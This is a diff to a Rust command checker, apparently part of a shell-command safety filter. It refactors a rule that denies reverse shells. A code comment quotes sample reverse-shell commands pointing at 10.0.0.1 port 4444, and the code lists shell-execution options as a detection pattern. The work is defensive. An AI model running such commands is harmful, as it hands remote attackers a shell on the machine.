@@ -1056,26 +1056,26 @@ fn secret_var(t: &str) -> bool {
 fn context_rules(c: &SimpleCommand, name: &str, facts: NameFacts, j: &mut Judged) {
     // `rcat connect -s bash 10.0.0.1 4444`, `tool --exec /bin/sh 10.0.0.1:4444`: a program
     // (netcat-like, whatever its name) handed a shell to run and an address and port.
-    if !facts.shell {
-        let args: Vec<&str> = c.args().collect();
-        let shell_opt = args.windows(2).any(|w| {
+    // Checked without allocating: this runs for every command that is not a shell.
+    let shell_opt = !facts.shell
+        && c.args().zip(c.args().skip(1)).any(|(opt, val)| {
             matches!(
-                w[0],
+                opt,
                 "-e" | "-s" | "-c" | "--exec" | "--shell" | "--sh-exec" | "-x"
-            ) && is_shell(w[1].rsplit('/').next().unwrap_or(w[1]))
+            ) && is_shell(val.rsplit('/').next().unwrap_or(val))
         });
+    if shell_opt {
         let ipv4 = |a: &str| {
             let host = a.split(':').next().unwrap_or(a);
-            let parts: Vec<&str> = host.split('.').collect();
-            parts.len() == 4
-                && parts
-                    .iter()
+            host.split('.').count() == 4
+                && host
+                    .split('.')
                     .all(|p| !p.is_empty() && p.len() <= 3 && p.bytes().all(|b| b.is_ascii_digit()))
         };
         let port = |a: &str| !a.is_empty() && a.len() <= 5 && a.bytes().all(|b| b.is_ascii_digit());
-        let address = args.iter().any(|a| ipv4(a) && a.contains(':'))
-            || (args.iter().any(|a| ipv4(a)) && args.iter().any(|a| port(a)));
-        if shell_opt && address {
+        let address = c.args().any(|a| ipv4(a) && a.contains(':'))
+            || (c.args().any(ipv4) && c.args().any(port));
+        if address {
             j.deny(
                 "net.reverse-shell",
                 C_REVERSE,
